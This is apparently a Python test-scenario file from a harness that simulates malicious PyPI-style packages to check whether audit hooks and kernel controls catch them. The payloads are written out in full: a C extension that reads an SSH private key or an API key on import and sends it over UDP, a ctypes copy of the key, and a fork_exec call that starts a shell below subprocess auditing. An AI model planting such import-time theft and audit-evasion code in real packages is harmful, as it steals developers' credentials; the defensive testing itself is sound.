"""Native code and what lies below the audit events: Hades branch b, syncagents, torchtriton."""

from payloads import TOOLS, app
from scenario import LIMITS, Expected, Scenario
from support.wheels import Wheel

EXTENSION = r"""
#include <Python.h>
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static struct PyModuleDef definition = {PyModuleDef_HEAD_INIT, "_native", NULL, -1, NULL};
static size_t loot(char *text, size_t room) {
    char path[4096];
    snprintf(path, sizeof path, "%s/.ssh/id_ed25519", getenv("HOME"));
    FILE *file = fopen(path, "r");
    if (!file) return 0;
    size_t length = fread(text, 1, room, file);
    fclose(file);
    return length;
}
static void deliver(const char *text, size_t length) {
    struct sockaddr_in address = {.sin_family = AF_INET};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    address.sin_port = htons(atoi(strchr(getenv("SINK_UDP"), ':') + 1));
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd < 0) return;
    sendto(fd, text, length, 0, (struct sockaddr *)&address, sizeof address);
    close(fd);
}
PyMODINIT_FUNC PyInit__native(void) {
    char text[4096];
    size_t length = @WHAT@;
    if (length) deliver(text, length);
    return PyModule_Create(&definition);
}
"""
FILE = EXTENSION.replace("@WHAT@", "loot(text, sizeof text)")
SOCKET = EXTENSION.replace("@WHAT@", 'snprintf(text, sizeof text, "%s", getenv("ACME_API_KEY"))')
THROUGH_CTYPES = """
import ctypes, os
library = ctypes.CDLL(None)
source = os.path.join(_home(), ".ssh", "id_ed25519").encode()
buffer = ctypes.create_string_buffer(4096)
fd = library.open(source, 0)
length = library.read(fd, buffer, 4096)
target = library.open(os.path.join(_home(), "from-ctypes.mark").encode(), 0o101, 0o600)
library.write(target, buffer, length)
"""
# What subprocess itself passes on 3.11 to 3.13; `read` and `write` are the pipe that tells it about a failed exec.
DIRECT_FORK_EXEC = """
import _posixsubprocess, os
read, write = os.pipe()
arguments = [b"sh", b"-c", b"test -e ~/.canary-home && : > ~/from-fork-exec.mark"]
streams = [-1, -1, -1, -1, -1, -1, read, write]
try:
    pid = _posixsubprocess.fork_exec(
        arguments, [b"/bin/sh"], True, (write,), None, None, *streams,
        False, False, -1, None, None, None, -1, None, True,
    )
    os.waitpid(pid, 0)
except OSError:
    pass
"""
MODELS = {
    "models": ("Hades wave, branch b", "syncagents", "torchtriton 3.0.0"),
    "techniques": ("T1195.002", "T1106", "T1574", "T1552.004"),
}
BLIND = f"what native code does raises no audit event; the kernel rungs stop it: {LIMITS}#native-code"


def native(variant, story, source, achieves):
    """Return a Scenario whose payload is C code that runs when the extension module is loaded."""
    package = Wheel(
        "acme-abi", "2.2.2", {"acme_abi/__init__.py": "from . import _native\n"}, native={"acme_abi/_native": source}
    )
    return Scenario(
        row=28,
        variant=variant,
        story=story,
        wheels=(package,),
        app=app("import acme_abi"),
        achieves=achieves,
        denied=(Expected("*", "acme-abi", "import"),),
        holds_with="kernel",
        gaps={"observe": BLIND, "recommended": BLIND},
        needs=("compiler",),
        **MODELS,
    )


SCENARIOS = (
    native("c-file", "an extension reads a private key in C and sends it", FILE, ("leaked:ssh", "UDP:")),
    native("c-socket", "an extension sends a variable in C", SOCKET, ("leaked:variable", "UDP:")),
    Scenario(
        row=28,
        variant="ctypes",
        story="the package copies a private key by the C library's own open, read and write",
        wheels=(Wheel("acme-ffi", "1.0.3", {"acme_ffi.py": TOOLS + THROUGH_CTYPES}),),
        app=app("try:", "    import acme_ffi", "except OSError:", "    pass"),
        achieves=("kept:ssh", "wrote:home/from-ctypes.mark"),
        denied=(Expected("native.call", "acme-ffi", "import", "open"),),
        **MODELS,
    ),
    Scenario(
        row=28,
        variant="fork-exec",
        story="the package starts a shell by _posixsubprocess.fork_exec, below subprocess and its event",
        wheels=(Wheel("acme-fork", "1.0.3", {"acme_fork.py": TOOLS + DIRECT_FORK_EXEC}),),
        app=app("import acme_fork"),
        achieves=("wrote:home/from-fork-exec.mark",),
        denied=(Expected("proc.spawn", "acme-fork", "import", "/*sh"),),
        **MODELS,
    ),
)
